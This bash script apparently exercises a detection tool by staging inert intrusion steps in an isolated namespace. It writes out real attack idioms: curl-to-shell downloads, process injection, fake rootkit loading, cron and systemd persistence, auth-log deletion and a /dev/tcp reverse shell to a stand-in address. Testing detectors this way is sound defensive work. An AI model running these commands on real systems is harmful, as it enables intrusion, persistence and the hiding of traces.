#!/bin/bash
# The steps of an intrusion, each harmless: in a mount and a network namespace of its own, on files that nobody misses.
#   unshare --mount --net bash intrusion.sh SCRIPTS FOLDER
set -eu
scripts=$1 folder=$2 python=/usr/bin/python3
mount --make-rprivate /
for system in /etc/cron.d /etc/systemd/system /var/log; do mount -t tmpfs tmpfs "$system"; done
echo 'old entries' > /var/log/auth.log
ip link set lo up
ip address add 192.0.2.66 dev lo         # connections of a host to itself are no detection
mkdir "$folder/www"
cp /bin/true "$folder/www/implant"
echo ': stage two' > "$folder/www/stage.sh"
$python "$scripts/attacker.py" "$folder" & attacker=$!
sleep 1000 & victim=$!
trap 'kill $attacker $victim' EXIT
until [ -e "$folder/ports" ]; do sleep 0.05; done
read -r web shell < "$folder/ports"

# Download and run
curl -s -o "$folder/implant" "http://127.0.0.1:$web/implant"
chmod +x "$folder/implant"
"$folder/implant"
# Download into a shell
sh -c "curl -s http://127.0.0.1:$web/stage.sh | sh"
# A program that is in memory only
$python "$scripts/intruder.py" memfd
# Code into another process, and what it knows out of it
$python "$scripts/intruder.py" inject "$victim"
$python "$scripts/intruder.py" steal "$victim"
# A kernel module: the tool's start is what shows where the kernel takes none
touch "$folder/rootkit.ko"
bash -c "exec -a insmod /bin/true $folder/rootkit.ko"
# To stay
echo '* * * * * root /bin/true' > /etc/cron.d/updater
printf '[Service]\nExecStart=/bin/true\n' > /etc/systemd/system/updater.service
# To leave no traces
rm /var/log/auth.log
# Past the file system
mknod "$folder/disk" b 7 0
dd if="$folder/disk" of=/dev/null count=1 2> /dev/null || true
# Out by questions
$python "$scripts/intruder.py" tunnel
# A shell for the attacker
bash -c "bash -i >& /dev/tcp/192.0.2.66/$shell 0>&1" || true
